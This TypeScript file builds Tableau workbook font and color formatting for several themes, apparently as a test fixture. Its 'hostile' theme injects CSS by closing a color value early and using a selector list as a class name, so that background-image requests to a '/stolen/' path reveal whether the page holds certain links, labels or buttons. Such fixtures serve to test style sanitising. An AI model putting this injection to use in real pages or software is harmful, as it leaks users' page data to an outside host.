import type { WorkbookFormatting } from '../../wire/wire-data.ts'

/** Tableau's class names of formatted elements, with their font size in points. */
const sizesPt = {
  'tableau-worksheet-title': 15,
  'tableau-worksheet': 9,
  'tableau-tooltip': 10,
  'tableau-story-title': 18,
  'tableau-dashboard-title': 18,
} as const

type Look = { fontFamily: string; ink: string; scale?: number; fontWeight?: string; fontStyle?: string }

const sans = 'Tableau Book, Benton Sans, system-ui, sans-serif'

/** Themes of workbooks. Their backgrounds are in host.css. */
const looks = {
  light: { fontFamily: sans, ink: '#333333' },
  dark: { fontFamily: sans, ink: '#e6e9ef' },
  paper: { fontFamily: 'Georgia, Times New Roman, serif', ink: '#4a3524', fontStyle: 'italic' },
  bold: { fontFamily: 'Trebuchet MS, Verdana, sans-serif', ink: '#ffe14d', fontWeight: 'bold', scale: 1.4 },
  hostile: { fontFamily: sans, ink: '#333333' },
} as const satisfies Record<string, Look>

export type Theme = keyof typeof looks

/** The path by which a hostile host's styles leak data. */
const STOLEN_PATH = '/stolen/'

/**
 * The workbook's fonts and colors. The theme `hostile` requests an image from {@link STOLEN_PATH} if an element of the page has a
 * certain link, name or label: once by closing a value, once by a class name that is a selector.
 */
export function createWorkbookFormatting(theme: Theme, hostOrigin = globalThis.location?.origin): WorkbookFormatting {
  const { formattingSheets } = createFormatting(theme)
  if (theme !== 'hostile') return { formattingSheets }
  const ask = (found: string) => `background-image: url(${hostOrigin}${STOLEN_PATH}${found})`
  const probes = ['a[href*="artist/"]', 'img[alt]', 'button[aria-label]'].map(
    (selector, index) => `:root:not(&) ${selector} { ${ask(`value-${index}`)} }`,
  )
  const hostile = [
    ...formattingSheets.map(({ classNameKey, cssProperties }) => ({
      classNameKey,
      cssProperties: { ...cssProperties, color: `#333; ${probes.join(' ')}` },
    })),
    { classNameKey: 'x, .stage, h1, button, a[href]', cssProperties: { color: `#333; ${ask('name')}` } },
  ]
  return { formattingSheets: hostile }
}

function createFormatting(theme: Theme): WorkbookFormatting {
  const { fontFamily, ink, scale = 1, fontWeight = 'normal', fontStyle = 'normal' }: Look = looks[theme]
  return {
    formattingSheets: Object.entries(sizesPt).map(([classNameKey, sizePt]) => ({
      classNameKey,
      cssProperties: {
        fontFamily,
        fontSize: `${Math.round(sizePt * scale)}pt`,
        fontWeight,
        fontStyle: classNameKey.endsWith('title') ? fontStyle : 'normal',
        textDecoration: 'none',
        // A tooltip stays light in a dark workbook.
        color: classNameKey === 'tableau-tooltip' ? looks.light.ink : ink,
      },
    })),
  }
}
